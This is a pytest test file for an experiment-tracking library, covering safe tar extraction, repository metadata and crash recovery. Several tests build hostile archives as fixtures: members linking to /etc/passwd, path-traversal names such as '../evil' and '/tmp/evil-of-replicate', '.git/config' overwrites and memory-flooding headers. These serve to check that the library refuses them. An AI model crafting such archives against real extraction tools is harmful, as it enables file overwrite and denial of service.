HOSTILE_TARS.update({"a member of type %r" % kind: raw_header(type=kind, link=b"/etc/passwd") for kind in (
    tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE, tarfile.GNUTYPE_SPARSE,
    tarfile.CONTTYPE, b"D", b"M", b"V", b"Z", b"\xff")})


@pytest.mark.parametrize("name", sorted(HOSTILE_TARS))
def test_hostile_tars_are_read_errors(tmp_path, name):
    left = refused(tmp_path, HOSTILE_TARS[name] + (b"" if name.startswith("the end") else bytes(1024)))
    assert not left or name in ("a file below a file", "a file in place of a directory", "an enormous size",
                                "the end in the middle of a file", "the end in the middle of a header")


FLOODS = {
    "long names": (lambda: (long_name(bytes([65 + number % 26]) * 60000) for number in range(3000)), "more than 8 headers"),
    "a long name": (lambda: [long_name(PACKED_ID.encode() + b"/a" * 3000), tar_block("x")], "more than 4096"),
    "a large long name": (lambda: [long_name(b"a/" * (1 << 19))], "more than 65536"),
    "large pax headers": (lambda: (pax_block(pax_record(b"k%d" % number, b"x" * (1 << 20))) for number in range(300)),
                          "more than 65536"),
    "pax headers": (lambda: (pax_block(pax_record(b"k%d" % number, b"x" * 60000), kind=b"gx"[number % 2:][:1])
                             for number in range(3000)), "more than 8 headers"),
    "pax records": (lambda: [pax_block(*[b"6 %c=b\n" % (97 + number % 26) for number in range(10000)])], "more than 256 records"),
    "depth": (lambda: [long_name(PACKED_ID.encode() + b"/a" * 1500), tar_block("x")], "more than 255 nested directories"),
    "directories": (lambda: (tar_block(PACKED_ID + "/d%d" % number, kind=tarfile.DIRTYPE) * 1000 for number in range(110)),
                    "more than 100000 directories"),
    "one name": (lambda: [tar_block(PACKED_ID + "/same") * 1000] * 110, "more than 100000 directories and repeated"),
    "two names": (lambda: ((tar_block(PACKED_ID + "/a") + tar_block(PACKED_ID + "/b")) * 1000 for _ in range(55)),
                  "repeated names"),
}


@pytest.mark.parametrize("name, path", [*((name, None) for name in sorted(FLOODS)), ("long names", "missing"),
                                        ("one name", "missing")])
def test_what_floods_a_reader_is_refused_in_one_sentence(tmp_path, name, path):
    """In little memory and without reading it all."""
    blocks, problem = FLOODS[name]
    repository = store_bytes(tmp_path, b"")
    with gzip.open(archive_path(repository), "wb", 1) as stream:
        for block in blocks():
            stream.write(block)
        stream.write(bytes(1024))
    (printed,) = run_in_little_memory("""
        with replicate.Checkout(sys.argv[2]) as checkout:
            try:
                checkout.stage(replicate.Repository("file://" + sys.argv[1]), [("checkpoints", sys.argv[3])],
                               sys.argv[4] or None, True)
            except replicate.ReadError as error:
                print(error)
        """, tmp_path / "store", tmp_path / "out", PACKED_ID, path or "", megabytes=300)
    assert problem in printed and len(printed) < 400


def test_very_many_empty_gzip_members_are_read_in_time_of_their_number():
    sizes = []
    stream = io.BytesIO(gzip.compress(b"") * 20000 + gzip.compress(b"end"))
    read = stream.read
    stream = type("Counted", (), {"read": lambda self, size: sizes.append(size) or read(size)})()
    assert b"".join(replicate.gunzip(stream)) == b"end"
    assert max(sizes) <= 256 << 10  # all of which is copied for each member


def test_set_user_id_bits_are_dropped(tmp_path):
    repository = store_bytes(tmp_path, gzip.compress(tar_block(PACKED_ID + "/x", b"x", mode=0o6777) +
                                                     tar_block(PACKED_ID + "/y", b"y", mode=0) + bytes(1024)))
    unpack_all(repository, tmp_path / "target")
    assert [os.stat(str(tmp_path / "target" / name)).st_mode & 0o7777 for name in "xy"] == [0o755, 0o600]


HARMLESS = {name: b"x" for name in (
    "a", "b/c", "..a", "a..", "...", "~", "$HOME", "%2e%2e", "\u2025", "\uff0e\uff0e", " ", "ab:c",
    ".gitignore", ".github/x")}


@pytest.mark.parametrize("tar, files", [
    (b"".join(tar_block("%s/%s" % (PACKED_ID, name), b"x") for name in HARMLESS), HARMLESS),
    (tar_block(PACKED_ID + "/x", b"old") + tar_block(PACKED_ID + "/x", b"new"), {"x": b"new"}),
    (pax_block(*(pax_record(key, value.encode()) for key, value in (
        (b"path", PACKED_ID + "/new"), (b"size", "3"), (b"comment", "a=b\nc")))) +
     tar_block(PACKED_ID + "/x", b"one", size=0) + tar_block(PACKED_ID + "/y", b"two"), {"new": b"one", "y": b"two"})],
    ids=["names that look dangerous", "two members of one name", "a pax path for one member"])
def test_odd_tars_are_read(tmp_path, tar, files):
    repository = store_bytes(tmp_path, gzip.compress(tar + bytes(1024)))
    assert read_archive(repository) == files and {name: read_one(repository, name) for name in files} == files
    assert unpack_all(repository, tmp_path / "target") == set(files)
    assert tree(tmp_path / "target") == files


@pytest.mark.parametrize("form", ["ustar", "gnu", "pax"])
def test_archives_of_other_programs_in_several_gzip_members_are_read(tmp_path, form):
    files = {"a": b"a" * 3000, "b/c": os.urandom(5000), "d" * 60 + "/" + "e" * 90: b"long", "empty": b"",
             "big": bytes(5 << 20)}
    if form != "ustar":
        files.update({"f" * 150 + "/" + "g" * 150: b"longer", "\u4e2d" * 40: b"unicode", "tail " * 30: b"blank"})
    fill(tmp_path / PACKED_ID, files)
    of_tar = subprocess.check_output(["tar", "c", "--format=" + form, PACKED_ID], cwd=str(tmp_path))
    of_python = io.BytesIO()
    with tarfile.open(fileobj=of_python, mode="w", format=getattr(tarfile, form.upper() + "_FORMAT")) as archive:
        archive.add(str(tmp_path / PACKED_ID), PACKED_ID)
    for data in (of_tar, of_python.getvalue()):
        for pieces in ([data], [data[:700], data[700:701], b"", data[701:]]):
            for rest in (b"", bytes(512)):
                repository = store_bytes(tmp_path, b"".join(gzip.compress(piece) for piece in pieces) + rest)
                assert read_archive(repository) == files == {name: read_one(repository, name) for name in files}
                assert repository.archive("checkpoints", PACKED_ID).table is None


@hypothesis.given(st.data())
@hypothesis.settings(max_examples=300)
def test_mutated_tars_write_nothing_outside(tmp_path_factory, data):
    base = tmp_path_factory.getbasetemp() / "mutated-tars"
    shutil.rmtree(str(base), ignore_errors=True)
    blocks = [tar_block(PACKED_ID + "/a", b"a"), tar_block(PACKED_ID + "/sub/b", b"b" * 600), HOSTILE_TARS["a name through a link"],
              pax_block(pax_record(b"path", (PACKED_ID + "/renamed").encode())), tar_block("../evil", b"evil"),
              tar_block(PACKED_ID + "/" + "l" * 200, b"long"), tar_block(PACKED_ID + "/sub", b"", tarfile.DIRTYPE),
              long_name(b"/tmp/evil-of-replicate\0"), tar_block(PACKED_ID + "/.git/config", b"evil")]
    tar = bytearray(b"".join(data.draw(st.lists(st.sampled_from(blocks), max_size=5))))
    for _ in range(data.draw(st.integers(0, 3))):
        position = data.draw(st.integers(0, len(tar)))
        tar[position:position + data.draw(st.integers(0, 2))] = data.draw(st.binary(max_size=2))
    for start in range(0, len(tar) - 511, 512) if data.draw(st.booleans()) else ():  # headers with right checksums
        if tar[start + 257:start + 262] == b"ustar":
            tar[start + 148:start + 156] = b" " * 8
            tar[start + 148:start + 156] = b"%06o\0 " % sum(tar[start:start + 512])
    repository = store_bytes(base, gzip.compress(bytes(tar) + bytes(1024)))
    target = base / "a" / "b" / "target"
    target.mkdir(parents=True)
    before = set(tree(base))
    with contextlib.suppress(replicate.ReadError, OSError):
        unpack_all(repository, target)
    new = [str(path.relative_to(base)) for path in base.rglob("*") if str(path.relative_to(base)) not in before and not path.is_dir()]
    assert all(path.startswith("a/b/target/") for path in new)
    assert not [path for path in new if (base / path).is_symlink() or ".git/" in path.lower()]
    assert not os.path.exists("/tmp/evil-of-replicate")


@hypothesis.given(st.dictionaries(st.text(st.characters(blacklist_characters="/\\\0:", blacklist_categories=["Cs"]), min_size=1,
                                          max_size=20).filter(lambda name: name not in (".", "..") and len(name.encode()) < 200),
                                  st.binary(max_size=3000), max_size=6), st.booleans())
def test_packing_any_files_reads_back(tmp_path_factory, files, compress):
    base = tmp_path_factory.getbasetemp() / "any"
    shutil.rmtree(str(base), ignore_errors=True)
    (base / "project").mkdir(parents=True)
    files = {name: content for name, content in files.items()
             if not replicate.is_never_saved(name) and name not in replicate.IGNORE_NAMES and not replicate.is_protected(name)}
    fill(base / "project", files)
    repository = pack_tree(base, base / "project", compress=compress)
    assert read_archive(repository) == files
    assert all(read_one(repository, name) == content for name, content in files.items())


@pytest.mark.parametrize("name", ["a\\b", "c:x", "t:/y", ".GIT/config", ".git./x", "git~1", ".Replicate/x"])
def test_whatever_is_saved_can_be_checked_out(project, tmp_path, name):
    """A file name that a checkout refuses must not make the others of its archive unreadable."""
    fill(project, {"weights": b"w", "sub/" + name: b"x", name: b"x"})
    repository = pack_tree(tmp_path, project)
    assert read_archive(repository)["weights"] == b"w"


# ------------------------------------------------------------------------------------------------------------------
# 7  Repository
# ------------------------------------------------------------------------------------------------------------------

def opened(root):
    """The repository in a directory, as the program sees it."""
    return replicate.Repository("file://%s" % root)


def listed(root):
    """{experiment ID: [checkpoint IDs]} as our own listing has it, journals included."""
    return {item.id: [checkpoint.id for checkpoint in item.checkpoints] for item in opened(root).experiments()}


def names_in(directory):
    """The sorted names in a directory; none if it is not there."""
    return sorted(os.listdir(str(directory))) if os.path.isdir(str(directory)) else []


def train(body, *arguments, code=0):
    """Run a script that records to its end; `body` finds its modules imported and `experiment` begun."""
    done = run_script(TRAINING + textwrap.dedent(body), *arguments, check=False)
    assert done.returncode == code, done.stderr
    return done


def leftovers(repo):
    """What a recorder leaves only while it works or when it was killed."""
    return names_in(repo / "journals") + names_in(repo / "tmp") + names_in(repo / "metadata/heartbeats")


@pytest.fixture
def repo(project):
    return project / "repo"


@pytest.mark.parametrize("text, error, words", [('{"version":2}', replicate.IncompatibleRepositoryVersion, "version 2"), *[
    (text, replicate.CorruptedRepositorySpec, "repository.json") for text in (
        "", "{", "[]", "null", "1", "{}", '{"version":"1"}', '{"version":true}', '{"version":0}', '{"version":-1}',
        '{"version":1.5}', '{"version":NaN}', '{"version":null}', "\udcff")]])
def test_a_newer_or_damaged_repository_is_refused_and_not_touched(repo, call, text, error, words):
    write_repository(repo, experiment_document(A))
    (repo / "repository.json").write_bytes(text.encode("utf-8", "surrogateescape"))
    before = tree(repo)
    for use in (opened(repo).check_version, replicate.init, replicate.experiments.list, lambda: replicate.experiments.get(A)):
        with pytest.raises(error, match=words):
            use()
    for arguments in (["ls"], ["rm", "-f", "1e"], ["show", "1e"], ["checkout", "1e", "-f"]):
        code, _, message = call(*arguments)
        assert code == 1 and words in message and len(message.splitlines()) == 1
    assert tree(repo) == before


def test_a_missing_repository_json_is_a_repository_not_yet_written_to(repo):
    assert opened(repo).check_version() is False and opened(repo).experiments() == [] and not repo.exists()
    write_repository(repo)
    assert opened(repo).check_version() is True
    (repo / "repository.json").write_text('{ "version" : 1, "more": [] }\n')
    assert opened(repo).check_version() is True


def test_unreadable_documents_are_named_once_and_the_rest_is_listed(repo):
    write_repository(repo, experiment_document(A), experiment_document(B))
    whole = json.dumps(GOOD_DOCUMENT).encode()
    bad = {"notes.txt": b"hello", "README.json": b"{}", hex_id("bc"): whole, hex_id("bd") + ".json~": whole,
           "evil\x1b[2J.json": b"{}"}
    for number, content in enumerate([b"", b"[]", b"\xff\xfe{}", b"[" * 200000, whole[:len(whole) // 2], whole,
                                      {"params": {"x": math.nan}}, *WRONG_FIELDS]):
        item = "%064x" % number
        bad[item + ".json"] = content if isinstance(content, bytes) else json.dumps(
            {**GOOD_DOCUMENT, "id": item, **content}).encode()
    fill(repo / "metadata/experiments", bad)
    for arguments in (["ls", "-q"], ["ls", "-q", "-f", "user = andreas"]):
        done = run(*arguments)
        assert (done.returncode, done.stdout.split()) == (0, [A, B]), done.stderr
        warnings = done.stderr.splitlines()
        for name in bad:
            shown = name.replace("\x1b", "\\x1b") + ":"
            assert sum(shown in line for line in warnings) == 1, (name, done.stderr)
        assert len(warnings) == len(bad) and "\x1b" not in done.stderr
    for arguments in (["prune"], ["report", "-o", "-"]):  # they read the documents twice
        assert run(*arguments).stderr.count("Skipped metadata/") == len(bad)
    assert run("rm", "-f", "1e").returncode == run("show", "2e").returncode == 0
    (repo / "metadata/experiments" / (A + ".json")).write_text("{")
    for done in run("show", A), run_script("import replicate\nreplicate.experiments.get('%s')" % A, check=False):
        assert done.returncode == 1 and "The document of experiment 1eeeeee cannot be read: it is not valid JSON" in done.stderr


def test_what_is_no_file_among_the_documents_neither_hangs_nor_hides_the_rest_nor_leaves_files_open(repo):
    write_repository(repo, experiment_document(A))
    folder, storage = repo / "metadata/experiments", opened(repo).storage
    fifo, directory, dangling = (hex_id(letter) + ".json" for letter in ("a1", "a2", "a3"))
    os.mkfifo(str(folder / fifo))
    (folder / directory).mkdir()
    (folder / dangling).symlink_to("nowhere")
    done = run("ls", "-q", timeout=20)
    assert done.returncode == 0 and done.stdout.split() == [A]
    assert [fifo in line for line in done.stderr.splitlines()] == [True]
    found = sorted(entry.name for entry in storage.list("metadata/experiments/"))
    assert found == [A + ".json", fifo]  # a directory is no document, and a dangling link is like one that was removed since
    descriptors = "/proc/self/fd" if os.path.isdir("/proc/self/fd") else "/dev/fd"
    before = len(os.listdir(descriptors))
    for name in (fifo, directory) * 5:
        with pytest.raises(replicate.ReadError, match=name):
            storage.read("metadata/experiments/" + name)
    assert len(os.listdir(descriptors)) == before
    with pytest.raises(replicate.DoesNotExist):
        storage.read("metadata/experiments/" + dangling)


@pytest.mark.parametrize("beat, running", [
    *[(beat, False) for beat in (b"", b"[]", b"{}", b"null", b"\xff", b"[" * 100000)],
    *[(b'{"last_heartbeat": %s}' % moment, False) for moment in (
        b"5", b'"soon"', b'"0001-01-01T00:00:00+23:59"', b'"9999-12-31T23:59:59-23:59"')], (20, True), (40, False)])
def test_running_means_a_readable_heartbeat_of_the_last_thirty_seconds(repo, call, beat, running):
    """A number is the age of a heartbeat."""
    if isinstance(beat, int):
        moment = datetime.datetime.fromtimestamp(time.time() - beat, datetime.timezone(datetime.timedelta(hours=5)))
        beat = json.dumps({"experiment_id": A, "last_heartbeat": moment.isoformat("T", "microseconds")}).encode()
    write_repository(repo, *[experiment_document(hex_id(letter)) for letter in ("1e", "2e", "3e")], running=[B])
    (repo / "metadata/heartbeats" / (A + ".json")).write_bytes(beat)
    assert opened(repo).running() == {B, *[A] * running} and opened(repo).is_running(A) is running
    assert call("ps", "-q")[1].split() == [A] * running + [B]


def test_unknown_keys_survive_adding_and_removing_checkpoints(repo):
    old = dict(checkpoint_document(D, metrics={"loss": 0.5}), color="red")
    other = dict(checkpoint_document(hex_id("3c"), step=1), nested={"a": [1, None, {"b": "ü\u2028"}]})
    document = experiment_document(A, checkpoints=[old, other], git={"commit": "abc", "dirty": True},
                                   params={"x": "[NaN]", "s": "None", "big": 12345678901234567890}, gpus=["A100"])
    write_repository(repo, document)
    experiment = replicate.experiments.get("1e")
    added = experiment.checkpoint(metrics={"loss": 0.1}, quiet=True)
    experiment.stop()
    again = json.loads(json.dumps(document))
    again["checkpoints"].append(added.to_json())
    again.update({key: stored_documents(repo)[0][key] for key in ("imported_packages", "outcome")})
    assert stored_documents(repo) == [again] and added.step == 2
    assert run("rm", "-f", D).returncode == 0
    del again["checkpoints"][0]
    assert stored_documents(repo) == [again]
    experiment.checkpoint(metrics={"loss": 0.2}, quiet=True)
    experiment.stop()
    assert stored_documents(repo)[0]["git"] == {"commit": "abc", "dirty": True}
    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]][:2] == [hex_id("3c"), added.id]


@pytest.mark.parametrize("checkpoints", [None, [], "absent"])
def test_a_document_without_checkpoints_takes_the_first(repo, checkpoints):
    document = experiment_document(A, zebra=": [", **{"aaa": {"checkpoints": ": null"}})
    document["checkpoints"] = checkpoints
    if checkpoints == "absent":
        del document["checkpoints"]
    write_repository(repo, document)
    experiment = replicate.experiments.get("1e")
    made = [experiment.checkpoint(metrics={"n": number}, quiet=True).to_json() for number in range(3)]
    experiment.stop()
    stored, = stored_documents(repo)
    assert stored.pop("imported_packages") and stored.pop("outcome") and stored == dict(document, checkpoints=made)


def test_the_document_has_the_keys_and_the_look_of_the_format(repo):
    with replicate.init(params={"x": 1, "bad": float("nan"), "up": float("inf"), "down": -float("inf")},
                        quiet=True) as experiment:
        experiment.checkpoint(metrics={"loss": float("nan")}, primary_metric=("loss", "minimize"), quiet=True)
    text = (repo / "metadata/experiments" / (experiment.id + ".json")).read_text()
    document = json.loads(text, parse_constant=lambda name: pytest.fail(name))
    assert set(document) >= {"id", "created", "params", "host", "user", "config", "command", "path", "python_version",
                             "python_packages", "replicate_version", "checkpoints"}
    assert document["params"] == {"x": 1, "bad": "[NaN]", "up": "[+Infinity]", "down": "[-Infinity]"}
    assert document["config"] == {"repository": "file://%s" % repo, "storage": ""}
    assert document["path"] is None and document["replicate_version"] == replicate.__version__
    assert document["python_version"] == "%d.%d.%d" % sys.version_info[:3]
    assert document["python_packages"]["pytest"] == pytest.__version__
    assert re.fullmatch("[0-9a-f]{64}", document["id"])
    checkpoint, = document["checkpoints"]
    assert set(checkpoint) == {"id", "created", "metrics", "step", "path", "primary_metric"}
    assert checkpoint["metrics"] == {"loss": "[NaN]"} and checkpoint["step"] == 0 and checkpoint["path"] is None
    assert checkpoint["primary_metric"] == {"name": "loss", "goal": "minimize"}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z", moment)
               for moment in (document["created"], checkpoint["created"]))
    assert text.startswith('{\n "id": ') and json.dumps(document, indent=1, ensure_ascii=False) == text
    assert json.loads((repo / "repository.json").read_text()) == {"version": 1}


@pytest.fixture
def prefixes(repo):
    """A repository whose experiments and checkpoints have similar IDs."""
    write_repository(repo, experiment_document("ab1" + "0" * 61, checkpoints=[
        checkpoint_document("ab2" + "0" * 61), checkpoint_document("cd1" + "0" * 61)]),
        experiment_document("ef1" + "0" * 61, checkpoints=[checkpoint_document("cd12" + "0" * 60)]))
    return opened(repo)


@pytest.mark.parametrize("prefix, words", [
    ("zz", "not found: zz"), ("", r"is empty\.$"), ("ab", r"(?s)ambiguous.*ab10000.*ab20000"), ("cd1", "ambiguous"),
    *[(prefix, "not found") for prefix in ("AB1", "ab1" + "0" * 62, "*", "ab1*", "../", "../ab")]])
def test_prefixes_that_name_nothing_or_too_much(repo, prefixes, prefix, words):
    with pytest.raises(replicate.DoesNotExist, match=words):
        replicate.find_item(prefixes, prefix)
    write_repository(repo, experiment_document("ab2" + "0" * 61))
    with pytest.raises(replicate.DoesNotExist, match={"cd1": "not found", "ab": "ambiguous"}.get(prefix, words)):
        replicate.experiments.get(prefix)  # looks among experiments alone


def test_prefixes(repo, prefixes):
    found = lambda prefix: replicate.find_item(prefixes, prefix)  # noqa: E731
    assert found("ab1")[0].short_id() == "ab10000" and found("ab1")[1] is None
    assert found("ab2")[0].short_id() == "ab10000" and found("ab2")[1].id == "ab2" + "0" * 61
    assert found("cd12")[0].short_id() == "ef10000"
    write_repository(repo, experiment_document("ab"))
    assert found("ab")[0].id == "ab"  # exact
    with pytest.raises(replicate.DoesNotExist, match="zz"):
        replicate.find_items(prefixes, ["ab1", "zz"])


def recorded_pair(project):
    """Two stopped experiments with files, one checkpoint with and one without files each."""
    (project / "code.py").write_text("pass\n")
    made = []
    for number in range(2):
        (project / "model").write_text("weights %d" % number)
        with replicate.init(path="code.py", params={"n": number}, quiet=True) as experiment:
            experiment.checkpoint(path="model", metrics={"loss": 1}, quiet=True)
            experiment.checkpoint(metrics={"loss": 2}, quiet=True)
        made.append(experiment)
    return made


def test_rm_leaves_nothing_of_what_it_removes_and_all_of_the_rest(project, repo, says):
    """First of a checkpoint, then of the other experiment: if it cannot finish, the document stays, and it runs again."""
    first, second = recorded_pair(project)
    removed = first.checkpoints[0]
    expected = {item["id"]: item for item in stored_documents(repo)}
    expected[first.id]["checkpoints"].pop(0)
    files = tree(repo)
    assert removed.short_id() in says("rm", "-f", removed.id[:10])
    assert {item["id"]: item for item in stored_documents(repo)} == expected
    assert set(files) - set(tree(repo)) == {"checkpoints/%s.tar.gz" % removed.id} and not set(tree(repo)) - set(files)
    files = tree(repo)
    rest = {name: data for name, data in files.items() if second.id not in name and second.checkpoints[0].id not in name}
    assert len(rest) == len(files) - 3
    stuck = repo / "checkpoints" / (second.checkpoints[0].id + ".tar.gz")
    content = stuck.read_bytes()
    stuck.unlink()
    (stuck / "x").mkdir(parents=True)
    assert str(stuck) in says("rm", "-f", second.id, code=1)
    assert {item["id"] for item in stored_documents(repo)} == {first.id, second.id}
    shutil.rmtree(str(stuck))
    stuck.write_bytes(content)
    assert second.short_id() in says("rm", "-f", second.id[:10])
    assert tree(repo) == rest and run("checkout", "-f", first.id).returncode == 0


def test_rm_killed_anywhere_can_be_run_again(project, repo, call):
    """The process dies just before its first, second, third... removal; the document must outlive everything else."""
    killed_rm = """
        import os, signal, sys, replicate
        spared, unlink = iter(range(int(sys.argv[1]))), os.unlink
        def count(path, *more, **named):
            if next(spared, None) is None:
                os.kill(os.getpid(), signal.SIGKILL)
            unlink(path, *more, **named)
        os.unlink = count
        sys.exit(replicate.main(["rm", "-f", sys.argv[2]]))
        """
    experiment = recorded_pair(project)[0]
    ids = [experiment.id] + [checkpoint.id for checkpoint in experiment.checkpoints]
    for name in (ids[1] + ".tar.gz.0123", ids[0] + ".json.lock"):
        (repo / "tmp" / name).write_bytes(b"left by a killed process")
    backup = project / "backup"
    shutil.copytree(str(repo), str(backup))
    for count in range(30):
        shutil.rmtree(str(repo))
        shutil.copytree(str(backup), str(repo))
        done = run_script(killed_rm, count, experiment.id, check=False)
        left = [name for name in tree(repo) if any(item in name for item in ids)]
        if done.returncode == 0:
            break
        assert done.returncode == -signal.SIGKILL
        if [name for name in left if not name.startswith(("metadata/experiments", "tmp/%s.json.lock" % ids[0]))]:
            assert experiment.id in listed(repo)
        if experiment.id in listed(repo):
            assert call("rm", "-f", experiment.id)[0] == 0
            assert not [name for name in tree(repo) if any(item in name for item in ids)]
    assert count >= 4 and left == []


def test_a_document_that_is_being_updated_is_not_put_back_after_its_removal(repo):
    write_repository(repo, experiment_document(A))
    inside, go_on = threading.Event(), threading.Event()

    def slow_change(old):
        inside.set()
        go_on.wait(20)
        return old + b" "

    repository = opened(repo)
    with concurrent.futures.ThreadPoolExecutor(2) as threads:
        updating = threads.submit(repository.storage.update, document_key(A), slow_change)
        assert inside.wait(20)
        removing = threads.submit(repository.remove_experiment, replicate.find_item(opened(repo), "1e")[0])
        concurrent.futures.wait([removing], 0.3)  # either it waits for the other, or it is through
        go_on.set()
    assert updating.exception() is removing.exception() is None and stored_documents(repo) == []


LEAVES_A_JOURNAL = """
    replicate.FOLD_INTERVAL = 4  # time enough to get from the first checkpoint to the signal
    experiment.checkpoint(metrics={"n": 0}, quiet=True)
    document = "repo/metadata/experiments/%s.json" % experiment.id
    while len(json.load(open(document))["checkpoints"]) < 1 or os.listdir("repo/journals"):
        time.sleep(0.001)
    experiment.checkpoint(metrics={"n": 1}, quiet=True)
    experiment.checkpoint(metrics={"n": 2}, quiet=True)
    print(experiment.id, flush=True)
    os.kill(os.getpid(), getattr(signal, sys.argv[1]))
    time.sleep(60)
    """


def test_a_killed_process_s_journal_is_shown_at_once_and_folded_by_the_next_command(repo):
    """Without the checkpoint that is removed between the two."""
    done = train(LEAVES_A_JOURNAL, "SIGKILL", code=-signal.SIGKILL)
    assert len(stored_documents(repo)[0]["checkpoints"]) == 1 and len(names_in(repo / "journals")) == 1
    assert [item.metrics for item in replicate.experiments.list()[0].checkpoints] == [{"n": 0}, {"n": 1}, {"n": 2}]
    assert len(replicate.experiments.get(done.stdout.strip()).checkpoints) == 3
    assert len(names_in(repo / "journals")) == 1
    experiment = opened(repo).experiments()[0]
    victim = experiment.checkpoints[1]
    opened(repo).remove_checkpoint(experiment, victim)
    assert len(names_in(repo / "journals")) == 1 and victim.id not in listed(repo)[experiment.id]
    assert json.loads(run("ls", "--json").stdout)[0]["num_checkpoints"] == 2
    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 0}, {"n": 2}]
    assert names_in(repo / "journals") == names_in(repo / "tmp") == []


def test_where_files_cannot_be_locked_a_killed_process_s_journal_is_folded_a_day_later(repo, call, monkeypatch):
    """A live process folds its journals within seconds, so a journal of yesterday belongs to none."""
    monkeypatch.setattr(replicate, "lock_descriptor", lambda descriptor, wait: None)
    train(LEAVES_A_JOURNAL, "SIGKILL", code=-signal.SIGKILL)
    assert call("ls")[0] == 0 and len(stored_documents(repo)[0]["checkpoints"]) == 1
    for name in names_in(repo / "journals"):
        os.utime(repo / "journals" / name, (time.time() - 90000,) * 2)
    assert call("ls")[0] == 0 and len(stored_documents(repo)[0]["checkpoints"]) == 3 and names_in(repo / "journals") == []


def test_a_live_process_s_journal_is_shown_but_left_to_it(repo, training):
    script = training(LEAVES_A_JOURNAL, "SIGSTOP", prefix=TRAINING)
    script.expect("")
    until(lambda: os.waitid(os.P_PID, script.process.pid, os.WSTOPPED | os.WNOHANG | os.WNOWAIT))
    journals = names_in(repo / "journals")
    assert len(journals) == 1
    assert json.loads(run("ls", "--json").stdout)[0]["num_checkpoints"] == 3
    assert names_in(repo / "journals") == journals and len(stored_documents(repo)[0]["checkpoints"]) == 1
    script.process.send_signal(signal.SIGCONT)
    until(lambda: len(stored_documents(repo)[0]["checkpoints"]) == 3)
    until(lambda: names_in(repo / "journals") == [])


def test_torn_and_foreign_lines_of_a_journal_are_passed_over(repo):
    write_repository(repo, experiment_document(A, checkpoints=[checkpoint_document(C)]))
    (repo / "journals").mkdir()

    def line(letter, **fields):
        return json.dumps({"checkpoint": dict(checkpoint_document(hex_id(letter)), **fields)})

    lines = [line("2c"), line("3c")[:60], "null", "[]", "{}", "\0\0\0", "5", line("4c", step="x"), line("1c"), line("5c"),
             line("6c"), json.dumps({"removed": hex_id("5c")}), line("7c")[:-1]]
    (repo / "journals" / (A + ".abcd.jsonl")).write_text("\n".join(lines))
    (repo / "journals" / (B + ".abcd.jsonl")).write_text(lines[0])  # of an experiment that is gone
    (repo / "journals" / "notes.txt").write_text("not ours")
    expected = [C, D, hex_id("6c")]
    assert listed(repo) == {A: expected}
    done = run("ls", "-q")
    assert done.stdout.split() == [A] and done.stderr == ""
    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == expected
    assert names_in(repo / "journals") == ["notes.txt"]


def test_several_journals_are_merged_in_order_of_time(repo):
    """A process that was killed while it folded one journal has left the next one too."""
    storage = replicate.DiskStorage(str(repo))
    documents = [experiment_document(hex_id("%02x" % number)) for number in range(10)]
    write_repository(repo, *documents)
    for document in documents:
        for number in range(3):
            journal = replicate.Journal(storage, document["id"])
            journal.append(json.dumps({"checkpoint": checkpoint_document(hex_id("c%d" % number), step=number,
                                       created="2006-01-02T15:00:0%dZ" % number)}).encode())
            journal.release(remove=False)
    assert [item.checkpoints.step for item in opened(repo).experiments()] == [[0, 1, 2]] * 10
    assert run("ls").returncode == 0 and names_in(repo / "journals") == []
    assert [[item["step"] for item in document["checkpoints"]] for document in stored_documents(repo)] == [[0, 1, 2]] * 10


@pytest.mark.parametrize("by", ["a command", "a recording", "rm"])
def test_what_a_killed_recorder_left_goes_at_once(project, repo, by):
    (project / "model").write_bytes(b"0123456789abcdef" * (4 << 20))
    done = train("""
        experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True)
        while not [name for name in os.listdir("repo/tmp") if ".tar.gz." in name]:
            time.sleep(0.001)
        experiment.checkpoint(metrics={"n": 2}, quiet=True)
        print(experiment.id, flush=True)
        os.kill(os.getpid(), signal.SIGKILL)
        """, code=-signal.SIGKILL)
    beat = repo / "metadata/heartbeats" / (done.stdout.strip() + ".json")
    assert beat.exists() and [name for name in names_in(repo / "tmp") if ".tar.gz." in name]
    if by == "rm":
        assert run("rm", "-f", done.stdout.strip()).returncode == 0
        assert list(tree(repo)) == ["repository.json"]
        return
    beat.write_text(json.dumps({"experiment_id": done.stdout.strip(), "last_heartbeat": "2020-01-01T00:00:00Z"}))
    write_repository(repo, running=[A])
    if by == "a command":
        assert run("ls").returncode == 0
    else:
        replicate.init(quiet=True).stop()
    assert names_in(repo / "tmp") == [] and names_in(beat.parent) == [A + ".json"]


# ------------------------------------------------------------------------------------------------------------------
# 8  Recorder
# ------------------------------------------------------------------------------------------------------------------

@pytest.fixture
def small_disk(tmp_path):
    """The directory of a project that is a disk of 1 MB."""
    if sys.platform != "linux":
        pytest.skip("a small disk cannot be mounted here: no Linux")
    disk = tmp_path / "disk"
    disk.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1024k", "tmpfs", str(disk)], capture_output=True, text=True)
    if done.returncode:
        pytest.skip("a small disk cannot be mounted here: %s" % done.stderr.strip())
    (disk / "replicate.yaml").write_text("repository: file://repo\n")
    yield disk
    subprocess.run(["umount", "-l", str(disk)])


@pytest.mark.parametrize("kind", ["metrics", "random", "text", "directory"])
@pytest.mark.parametrize("count", [1, 2, 3, 7])
def test_a_checkpoint_that_was_returned_survives_kill_9(project, repo, kind, count):
    """The last file is still being compressed when the process dies."""
    done = train("""
        kind, count = sys.argv[1], int(sys.argv[2])
        path = None if kind == "metrics" else "model"
        for number in range(count):
            if kind == "directory":
                os.makedirs("model/deep", exist_ok=True)
                for part in range(30):
                    open("model/deep/%d" % part, "w").write("%d %d " % (number, part) * 5000)
            elif path:
                open("model", "wb").write(os.urandom(1 << 20) * 3 if kind == "random" else b"%06d, " % number * (1 << 20))
                os.link("model", "copy%d" % number)
            print(experiment.checkpoint(path=path, metrics={"n": number, "list": [1, None]}, quiet=True).id, flush=True)
            if os.path.isfile("model"):
                os.unlink("model")
        os.kill(os.getpid(), signal.SIGKILL)
        """, kind, count, code=-signal.SIGKILL)
    ids = done.stdout.split()
    assert len(ids) == count and list(listed(repo).values()) == [ids]
    experiment = replicate.experiments.list()[0]
